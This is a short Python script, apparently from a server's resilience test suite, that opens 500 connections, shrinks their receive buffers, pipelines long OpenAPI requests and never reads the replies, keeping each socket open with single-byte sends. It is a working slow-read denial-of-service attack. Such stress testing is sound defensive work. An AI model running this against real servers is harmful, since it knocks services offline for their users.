"""500 connections that ask for long answers and never read them."""

from __future__ import annotations

import asyncio
import socket
from contextlib import closing

from scripts.attacks.crew import Crew
from scripts.attacks.target import Target, connect

CONNECTIONS = 500
_REQUESTS = 50  # their answers are more than fits into the buffers of two sockets


async def unread(target: Target, crew: Crew) -> None:
    """500 that ask for long answers and never read them."""
    request = target.get("/v1/openapi.json")

    async def part(number: int) -> None:
        with closing(await connect(target, limit=1024)) as connection:
            connection.writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            connection.writer.transport.pause_reading()  # type: ignore[attr-defined]  # a socket's transport has it
            await connection.send(request * _REQUESTS)
            crew.in_place(number)
            while not connection.writer.transport.is_closing():
                await asyncio.sleep(1)
                await connection.send(request[:1])  # fails once the server has ended the connection

    await crew.run(CONNECTIONS, part)
